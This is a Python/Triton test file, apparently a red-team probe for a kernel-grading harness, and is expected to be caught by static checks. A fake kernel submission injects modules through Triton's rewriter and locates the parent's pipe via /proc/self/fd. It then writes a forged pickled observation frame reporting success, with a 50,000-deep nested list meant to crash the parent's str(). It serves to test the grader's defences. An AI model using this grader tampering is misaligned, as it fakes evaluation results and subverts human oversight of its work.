# probes: red team 4 #6: forged observation frames through the injected os, with a 50,000-deep alias list the parent str()-ed
# reference: ref_relu.py
# expect: static
# runtime: runtime
import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def copy_kernel(src_ptr, dst_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    tl.store(dst_ptr + offs, tl.load(src_ptr + offs, mask=m), mask=m)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        k = copy_kernel
        k.rewriter.rewrite_ast()      # injects inspect, np, ... into our globals (finding #2/#4)

    def forward(self, x):
        os = inspect.os
        pickle = inspect.sys.modules["pickle"]
        # the child's pipe to the parent: the write end that is not stdout's pipe
        out_pipe = os.readlink("/proc/self/fd/1")
        pipes = [fd for fd in range(3, 64) if os.path.lexists("/proc/self/fd/" + str(fd))
                 and os.readlink("/proc/self/fd/" + str(fd)).startswith("pipe:")
                 and os.readlink("/proc/self/fd/" + str(fd)) != out_pipe]
        msg_fd = max(pipes)
        obs = {"launches": 1, "flags": [], "error": None,
               "outputs_facts": [{"tensor": True, "numel": 0, "device": "cpu"}],
               "outputs": [0], "inputs_after": [], "aliases": ["PLACEHOLDERX"]}
        data = pickle.dumps({"kind": "call", "obs": obs}, protocol=2)
        depth = 50000
        data = data.replace(b"X\x0c\x00\x00\x00PLACEHOLDERX", b"]" * depth + b"a" * (depth - 1))
        os.write(msg_fd, len(data).to_bytes(8, "little") + data)
        raise RuntimeError("stop here")
